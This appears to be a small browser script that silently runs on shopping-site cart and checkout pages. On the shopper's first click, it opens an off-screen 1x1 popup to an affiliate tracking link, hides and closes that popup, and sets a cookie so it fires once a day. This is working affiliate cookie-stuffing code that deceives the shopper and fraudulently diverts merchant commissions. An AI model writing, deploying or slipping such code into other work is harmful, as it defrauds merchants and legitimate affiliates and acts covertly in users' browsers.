'use strict';
var shops = { 'shop-one.example': 'https://t.affhub.example/c?m=101&a=5530&u=', 'bigstore.example': 'https://t.affhub.example/c?m=208&a=5530&u=' };
var host = Object.keys(shops).filter(function (h) { return location.hostname.slice(-h.length) === h; })[0];
function drop() {
  document.removeEventListener('mousedown', drop, true);
  var w = window.open(shops[host] + encodeURIComponent(location.origin), 'w' + Date.now(), 'width=1,height=1,left=9999,top=9999,menubar=0,status=0');
  if (!w) return;
  try { w.blur(); window.focus(); } catch (e) {}
  setTimeout(function () { w.close(); }, 3500);
  document.cookie = '_ch=1;path=/;max-age=86400';
}
if (host && document.cookie.indexOf('_ch=1') < 0 && /cart|basket|checkout/.test(location.pathname)) {
  document.addEventListener('mousedown', drop, true);
}
